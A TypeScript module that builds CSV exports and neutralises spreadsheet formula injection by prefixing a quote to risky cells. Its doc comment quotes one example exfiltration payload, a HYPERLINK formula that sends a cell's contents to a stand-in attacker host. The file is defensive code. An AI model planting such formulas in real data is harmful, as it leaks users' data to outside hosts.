/**
 * CSV export of a list with the columns it shows: a header of the translated column labels, then
 * one line per record. UTF-8 with a byte-order mark so that spreadsheet programs read Japanese
 * correctly; fields quoted when they hold a comma, quote or line break.
 *
 * Text a spreadsheet would run as a formula is neutralised (OWASP "CSV injection"): a cell whose
 * first character other than white space is `=`, `+`, `-`, `@` (or their full-width forms, which
 * Japanese spreadsheet input turns into the same), a tab or a carriage return gets a leading `'`,
 * so `=HYPERLINK("http://evil.example/?leak="&A2,"Click")` in a circle's name is shown as text,
 * never evaluated. Numbers and booleans the console writes itself are left as they are.
 */

/** A column of the export: the record field and its header. */
export interface CsvColumn {
  source: string;
  label: string;
}

/** One value as CSV text: lists joined with spaces, objects as JSON, nothing as empty. */
export function csvValue(value: unknown): string {
  if (value === null || value === undefined) return '';
  if (Array.isArray(value)) return value.map(csvValue).join(' ');
  if (typeof value === 'object') return JSON.stringify(value);
  return String(value);
}

/** Characters that make a spreadsheet read a cell as a formula when they start it. */
const FORMULA_START = /^[\s\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20\t\r]/;

/** `text` as a cell a spreadsheet shows as text: a `'` in front when it would start a formula. */
export function neutralised(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** One cell: user text neutralised, then quoted. */
function cell(value: unknown): string {
  const text = csvValue(value);
  return quoted(typeof value === 'number' || typeof value === 'boolean' ? text : neutralised(text));
}

function quoted(text: string): string {
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** `records` as CSV with `columns`, lines ending in CRLF (RFC 4180), with a BOM. */
export function toCsv(records: Record<string, unknown>[], columns: CsvColumn[]): string {
  const lines = [columns.map((c) => cell(c.label))];
  for (const record of records) {
    lines.push(columns.map((c) => cell(record[c.source])));
  }
  return `\ufeff${lines.map((l) => l.join(',')).join('\r\n')}\r\n`;
}
